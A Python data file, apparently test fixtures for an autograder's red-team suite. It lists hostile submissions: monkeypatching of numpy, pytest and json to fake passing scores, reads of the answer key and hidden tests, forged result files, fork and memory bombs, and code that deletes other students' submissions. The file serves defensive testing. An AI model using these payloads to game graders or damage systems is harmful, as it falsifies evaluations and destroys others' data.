"""Hostile submissions for the red-team suite, as data: each is the handout's stubs (worth
0) or the answer key (worth full marks), plus attack code appended to a module.

`{ROOT}`, `{PORT}`, `{CLASS}` and `{CANARY}` in the code are replaced by the test: the
project folder, a port the test listens on, the folder of the submissions being graded,
and a canary folder outside the run.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    base: str = "stubs"  # "stubs" (deserves 0) or "solutions" (deserves full marks)
    module: str = "activations"


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "patch_numpy_comparisons",
        """
import numpy as _np
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
""",
    ),
    Attack(
        "patch_pytest",
        """
try:
    import pytest as _pytest
    import _pytest.outcomes as _outcomes
    _pytest.fail = lambda *a, **k: None
    _outcomes.fail = lambda *a, **k: None
    _pytest.approx = lambda *a, **k: (lambda: True)
except Exception:
    pass
""",
    ),
    Attack(
        "patch_builtins_and_json",
        """
import builtins as _builtins
import json as _json
_json.dumps = lambda *a, **k: '{"score": 50, "max_score": 50}'
_json.loads = lambda *a, **k: {"score": 50}
_builtins.isinstance = lambda *a: True
_builtins.type = lambda *a: object
""",
    ),
    Attack("sys_exit_at_import", "import sys as _sys\n_sys.exit(0)\n"),
    Attack(
        "os_exit_in_a_function",
        "import os as _os\n\ndef relu(Z):\n    _os._exit(0)\n",
    ),
    Attack(
        "infinite_loop_ignoring_sigterm",
        """
import signal as _signal
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)

def relu(Z):
    while True:
        pass
""",
    ),
    Attack(
        "memory_bomb",
        """
def relu(Z):
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
""",
    ),
    Attack(
        "fork_bomb",
        """
import os as _os

def relu(Z):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
""",
    ),
    Attack(
        "segfault_through_ctypes",
        "import ctypes as _ctypes\n\ndef relu(Z):\n    return _ctypes.string_at(0)\n",
    ),
    Attack(
        "import_reference_solutions_grader",
        """
for _name in ("solutions.activations", "reference.activations", "grader.hidden._support"):
    try:
        _module = __import__(_name, fromlist=["*"])
        globals().update({k: v for k, v in vars(_module).items() if not k.startswith("__")})
    except BaseException:
        pass
""",
    ),
    Attack(
        "read_answer_key_and_hidden_suite_from_disk",
        """
import os as _os
for _path in ("{ROOT}/solutions/activations.py", "{ROOT}/reference/activations.py"):
    try:
        exec(open(_path).read(), globals())
    except BaseException:
        pass
for _root in ("{ROOT}/grader/hidden", "/work"):
    try:
        for _folder, _dirs, _files in _os.walk(_root):
            for _file in _files:
                try:
                    print(open(_os.path.join(_folder, _file)).read()[:2000])
                except BaseException:
                    pass
    except BaseException:
        pass
""",
    ),
    Attack(
        "read_and_delete_other_submissions_and_results",
        """
import os as _os
import shutil as _shutil
for _root in ("{CLASS}", "{CANARY}", "{ROOT}/solutions"):
    try:
        for _folder, _dirs, _files in _os.walk(_root):
            for _file in _files:
                _path = _os.path.join(_folder, _file)
                try:
                    print(open(_path).read()[:200])
                    open(_path, "w").write("overwritten")
                    _os.unlink(_path)
                except BaseException:
                    pass
        _shutil.rmtree(_root, ignore_errors=True)
    except BaseException:
        pass
""",
    ),
    Attack(
        "write_fake_result_files",
        """
import os as _os
_fake = '{"score": 50, "max_score": 50, "status": "graded"}'
for _path in ("result.json", "/tmp/nngrade-fake-result.json", "{CANARY}/result.json",
              "{CLASS}/result.json", "{ROOT}/result.json"):
    try:
        open(_path, "w").write(_fake)
    except BaseException:
        pass
""",
    ),
    Attack(
        "rigged_return_values",
        """
import numpy as _np

class _Always(_np.ndarray):
    def __eq__(self, other):
        return True
    def __array_finalize__(self, obj):
        pass

class _Fake:
    shape = (3, 4)
    dtype = _np.float64
    def __eq__(self, other):
        return True
    def __array__(self, *a, **k):
        return _np.zeros((3, 4))

def relu(Z):
    return _np.zeros_like(Z).view(_Always)

def sigmoid(Z):
    return _Fake()

def tanh(Z):
    return _np.ma.masked_all(Z.shape)
""",
    ),
    Attack(
        "flood_stdout_and_stderr",
        """
import sys as _sys
for _ in range(2000):
    print("x" * 10000)
    _sys.stderr.write("y" * 10000)
""",
        base="solutions",
    ),
    Attack(
        "junk_into_every_file_descriptor",
        """
import os as _os
for _fd in range(0, 1024):
    try:
        _os.write(_fd, b"\\x00\\xff junk frame {\\"score\\": 50}" * 100)
    except BaseException:
        pass

def relu(Z):
    for _fd in range(0, 1024):
        try:
            _os.write(_fd, b"\\x00\\xff junk" * 100)
        except BaseException:
            pass
    return Z
""",
    ),
    Attack(
        "daemon_processes_and_threads",
        """
import os as _os
import subprocess as _subprocess
import threading as _threading
import time as _time
try:
    _subprocess.Popen(["sleep", "600"], start_new_session=True)
except BaseException:
    pass
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep(600)
        _os._exit(0)
except BaseException:
    pass
_threading.Thread(target=lambda: _time.sleep(600), daemon=True).start()
""",
    ),
    Attack(
        "network_access",
        """
import socket as _socket
for _host in ("127.0.0.1", "localhost"):
    try:
        _connection = _socket.create_connection((_host, {PORT}), timeout=1)
        _connection.sendall(b"LEAK")
        _connection.close()
    except BaseException:
        pass
""",
    ),
)
